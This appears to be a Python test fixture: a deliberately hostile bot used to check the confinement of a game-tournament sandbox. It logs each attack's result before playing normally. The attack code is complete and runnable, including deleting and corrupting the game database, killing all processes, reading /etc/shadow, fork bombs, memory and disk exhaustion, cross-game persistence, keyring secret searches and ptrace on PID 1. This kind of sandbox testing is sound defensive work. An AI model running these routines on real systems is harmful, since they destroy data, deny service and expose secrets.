"""A hostile bot: before its first turn it tries one attack, named by argv[1], reports on stderr what it got
(``hostile: WHAT: RESULT`` lines), then plays as good_bot.py does. The attacks are those of the 2026-11-25
review of locm (an attacker's point of view) and a few more:

store      find the store in its ancestors' command lines (--db), delete games, garble its -wal
signals    SIGKILL or SIGSTOP (argv[2]) every process it can see, by /proc and by trying every pid
worker     SIGKILL, SIGTERM or SIGSTOP (argv[2]) its parent (unconfined: the tournament worker)
snoop      read /etc/shadow, home files, the other bots beside it, connect to 127.0.0.1:argv[2]
memory     a child allocates and touches 1.25 GB
shared     hold 1 GB (touched) through a shared mapping (Python's mmap.mmap(-1, n) is MAP_SHARED)
memfd      hold 1 GB written to memory files (memfd_create), 32 MB each
escape     a child in a new session, environment cleared, that forks and exits in a loop forever
forkbomb   start processes until the system refuses, each waiting forever
cpu        a child that spins forever (stealing the opponent's CPU)
disk       fill /tmp, write into its own folder and into /
leave      look for what it left in its last game, then leave more for its next one (in a sandbox kept across
           games): files in /tmp and /dev/shm, a SysV shared memory segment, keys in its user and session
           keyrings, a child in a new session, a TCP connection in TIME_WAIT; look for the runner's key
           (runner-secret) in its user and session keyrings; say its uid and its sandbox's UTS namespace
launcher   go for what starts it in a kept sandbox: signal (argv[2]), trace, limit and read its sandbox's first
           process, look for any other process by trying every pid, kill(-1)

The attacks that would harm the machine if they ran unconfined (signals, escape, forkbomb, cpu, leave,
launcher) refuse to
run outside a PID namespace (where the bot is not one of the first few processes).
"""

import mmap
import os
import signal
import socket
import sys
import time

from botlib import answer, good_answer, turns

attack, args = sys.argv[1], sys.argv[2:]


def say(what, result):
    print(f"hostile: {what}: {result}", file=sys.stderr, flush=True)


def pids():
    return sorted(int(p) for p in os.listdir("/proc") if p.isdigit() and int(p) != os.getpid())


def cmdline(pid):
    try:
        with open(f"/proc/{pid}/cmdline", "rb") as f:
            return f.read().split(b"\0")
    except OSError:
        return []


def store():
    found = []
    for pid in pids():
        words = cmdline(pid)
        found += [w.decode() for a, w in zip(words, words[1:]) if a == b"--db"]
    say("store paths seen", found or "none")
    for path in found:
        try:
            import sqlite3

            conn = sqlite3.connect(path)
            conn.execute("DELETE FROM games")
            conn.commit()
            say("store", "games deleted")
        except Exception as exc:
            say("store", f"cannot delete: {exc}")
        try:
            with open(path + "-wal", "r+b") as f:
                f.write(os.urandom(32 * 1024))
            say("wal", "garbled")
        except OSError as exc:
            say("wal", f"cannot write: {exc.strerror}")


def signals():
    sig = getattr(signal, args[0])
    hit = []
    for pid in pids():
        try:
            os.kill(pid, sig)
            hit.append(pid)
        except OSError:
            pass
    tried = 0
    for pid in range(2, 40000):  # pids it cannot see in /proc: try them all
        if pid != os.getpid():
            try:
                os.kill(pid, sig)
                hit.append(pid)
            except OSError:
                tried += 1
    say("signalled", sorted(set(hit)) or "none")


def worker():
    parent = os.getppid()
    try:
        os.kill(parent, getattr(signal, args[0]))
        say("parent signalled", parent)
    except OSError as exc:
        say("parent signalled", exc.strerror)


def snoop():
    here = os.path.dirname(os.path.abspath(__file__))
    for path in ["/etc/shadow", os.path.expanduser("~/.bashrc"), "/root/.bashrc", os.path.join(here, "good_bot.py"),
                 os.path.join(here, "slow_bot.py")]:
        try:
            with open(path, "rb") as f:
                say(f"read {path}", f"{len(f.read())} bytes")
        except OSError as exc:
            say(f"read {path}", exc.strerror)
    try:
        socket.create_connection(("127.0.0.1", int(args[0])), timeout=2).close()
        say("connect", "connected")
    except OSError as exc:
        say("connect", exc.strerror or str(exc))


def memory():
    pid = os.fork()
    if pid == 0:
        try:
            block = bytearray(1280 * 1024 * 1024)  # zero-filled: every page touched
            say("child allocated", f"{len(block) >> 20} MB")
        except MemoryError:
            say("child allocated", "MemoryError")
        os._exit(0)
    os.waitpid(pid, 0)


def shared():
    held = mmap.mmap(-1, 1 << 30)
    for i in range(0, len(held), mmap.PAGESIZE):
        held[i] = 1
    say("shared", f"holding {len(held) >> 20} MB")
    HELD.append(held)


def memfd():
    block = b"x" * (1 << 20)
    for _ in range(32):  # 32 MB each: a file stays below the written-file limit (fsize, 64 MB)
        fd = os.memfd_create("held")
        for _ in range(32):
            os.write(fd, block)
        HELD.append(fd)
    say("memfd", f"holding {sum(os.fstat(fd).st_size for fd in HELD) >> 20} MB")


HELD = []


def escape():
    if os.fork() == 0:
        os.setsid()
        code = ("import os, time\n"
                "while True:\n"
                "    if os.fork():\n"
                "        os._exit(0)\n"
                "    time.sleep(0.01)\n")
        os.execve(sys.executable, [sys.executable, "-c", code], {})
    say("escape", "started")


def forkbomb():
    n = 0
    while n < 100000:
        try:
            if os.fork() == 0:
                time.sleep(3600)
                os._exit(0)
        except OSError as exc:
            say("forkbomb", f"{n} processes, then {exc.strerror}")
            return
        n += 1
    say("forkbomb", f"{n} processes, no limit")


def cpu():
    if os.fork() == 0:
        while True:
            pass
    say("cpu", "spinning child started")


def disk():
    signal.signal(signal.SIGXFSZ, signal.SIG_IGN)
    total = 0
    try:
        for i in range(1000):
            with open(f"/tmp/fill{i}", "wb") as f:
                for _ in range(16):
                    total += f.write(b"\0" * (1 << 20))
    except OSError as exc:
        say("tmp", f"{total >> 20} MB, then {exc.strerror}")
    for path in (os.path.join(os.path.dirname(os.path.abspath(__file__)), "planted.py"), "/planted"):
        try:
            with open(path, "w") as f:
                f.write("planted")
            say(f"write {path}", "written")
        except OSError as exc:
            say(f"write {path}", exc.strerror)
    try:
        mmap.mmap(-1, 1 << 20)
    except OSError:
        pass


LEFT_KEY = 0x10C1
KEYCTL = {"x86_64": (248, 250), "aarch64": (217, 219)}  # add_key, keyctl


def leave():
    import ctypes

    libc = ctypes.CDLL(None, use_errno=True)
    found = [p for p in ("/tmp/left-by-hostile", "/dev/shm/left-by-hostile") if os.path.exists(p)]
    if libc.shmget(LEFT_KEY, 0, 0) >= 0:
        found.append("shm segment")
    numbers = KEYCTL.get(os.uname().machine)
    for keyring, name in ((-4, "key"), (-3, "session key")):  # KEYCTL_SEARCH in @u, in @s
        if numbers and libc.syscall(numbers[1], 10, keyring, b"user", b"left-by-hostile", 0) >= 0:
            found.append(name)
    for keyring in (-4, -3):  # the runner's key, in its user or session keyring (a user's bots have its kuid)
        if numbers and libc.syscall(numbers[1], 10, keyring, b"user", b"runner-secret", 0) >= 0:
            found.append(f"the runner's key ({keyring})")
    others = [p for p in pids() if p != 1]
    if others:
        found.append(f"processes {others}")
    with open("/proc/net/tcp") as f:
        states = sorted({line.split()[3] for line in f.read().splitlines()[1:]})
    if states:
        found.append(f"sockets {states}")
    say("found", found or "nothing")
    made = []
    for path in ("/tmp/left-by-hostile", "/dev/shm/left-by-hostile"):
        with open(path, "w") as f:
            f.write("for my next game")
        os.chmod(path, 0o666)
        made.append(path)
    if libc.shmget(LEFT_KEY, 4096, 0o1666) >= 0:
        made.append("shm segment")
    for keyring, name in ((-4, "key"), (-3, "session key")):  # add_key to @u, to @s
        if numbers and libc.syscall(numbers[0], b"user", b"left-by-hostile", b"x", 1, keyring) >= 0:
            made.append(name)
        elif numbers:
            made.append(f"no {name} ({os.strerror(ctypes.get_errno())})")
    server = socket.socket()
    server.bind(("127.0.0.1", 0))
    server.listen(1)
    client = socket.create_connection(server.getsockname())
    server.accept()[0].close()
    client.close()  # closed first: this end waits in TIME_WAIT
    server.close()
    made.append("time_wait")
    if os.fork() == 0:
        os.setsid()
        time.sleep(3600)
        os._exit(0)
    made.append("child")
    say("left", ", ".join(made))
    say("who", f"uid {os.getuid()} uts {os.readlink('/proc/self/ns/uts')}")


def launcher():
    import ctypes
    import resource

    libc = ctypes.CDLL(None, use_errno=True)
    try:
        os.kill(1, getattr(signal, args[0]))
        say("signal 1", "delivered")
    except OSError as exc:
        say("signal 1", exc.strerror)
    attached = libc.ptrace(16, 1, None, None)  # PTRACE_ATTACH
    say("ptrace 1", "attached" if attached == 0 else os.strerror(ctypes.get_errno()))
    try:
        resource.prlimit(1, resource.RLIMIT_NOFILE, (64, 64))
        say("prlimit 1", "limited")
    except OSError as exc:
        say("prlimit 1", exc.strerror)
    for what in ("environ", "mem", "fd"):
        try:
            if what == "fd":
                say(f"/proc/1/{what}", f"{len(os.listdir('/proc/1/fd'))} entries")
            else:
                with open(f"/proc/1/{what}", "rb") as f:
                    say(f"/proc/1/{what}", f"read {len(f.read(64))} bytes")
        except OSError as exc:
            say(f"/proc/1/{what}", exc.strerror)
    seen = []
    for pid in range(1, 40000):
        if pid != os.getpid():
            try:
                os.kill(pid, 0)
                seen.append(pid)
            except ProcessLookupError:
                pass
            except OSError:
                seen.append(pid)  # there, but not ours
    say("processes", seen)
    try:
        os.kill(-1, signal.SIGKILL)
        say("kill -1", "sent")
    except OSError as exc:
        say("kill -1", exc.strerror)
    say("who", f"uid {os.getuid()} uts {os.readlink('/proc/self/ns/uts')}")


if attack in ("signals", "escape", "forkbomb", "cpu", "leave", "launcher", "shared", "memfd") and os.getpid() > 100:
    say(attack, "refused: not in a sandbox")
else:
    globals()[attack]()
for n, turn in turns():
    answer(good_answer(turn))
